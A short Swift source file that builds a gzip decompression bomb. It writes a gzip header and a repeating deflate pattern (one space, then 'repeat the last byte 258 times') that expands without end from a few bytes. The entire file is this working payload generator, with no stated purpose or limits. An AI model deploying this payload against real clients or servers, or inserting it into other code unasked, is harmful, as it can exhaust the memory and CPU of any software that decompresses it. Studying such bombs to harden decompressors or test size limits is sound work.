import Foundation

/// Spaces without end, in very few bytes.
///
/// A stream as RFC 1951 and RFC 1952 describe it: one space, and then "the last byte again, 258 times" for ever. That is
/// 13 bits each time, so after 13 bytes, which stand for 2064, the bits repeat.
struct GzipBomb {
  /// The header, and the bits until they begin to repeat.
  let start: Data
  /// The bytes that repeat.
  let period: Data

  init() {
    let space = "010" + "01010000"
    let again = "11000101" + "00000"
    let bits = space + String(repeating: again, count: 16)
    let bytes = Self.bytes(bits)
    // The first 11 bits, and 13 of the first repetition, are 3 bytes.
    start = Data([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]) + bytes.prefix(3)
    period = Data(bytes.dropFirst(3).prefix(13))
  }

  /// Bits fill a byte from its lowest bit on.
  private static func bytes(_ bits: String) -> Data {
    let bits = Array(bits)
    return Data(
      stride(from: 0, to: bits.count - 7, by: 8).map { first in
        bits[first..<first + 8].reversed().reduce(UInt8(0)) { $0 << 1 | ($1 == "1" ? 1 : 0) }
      }
    )
  }
}
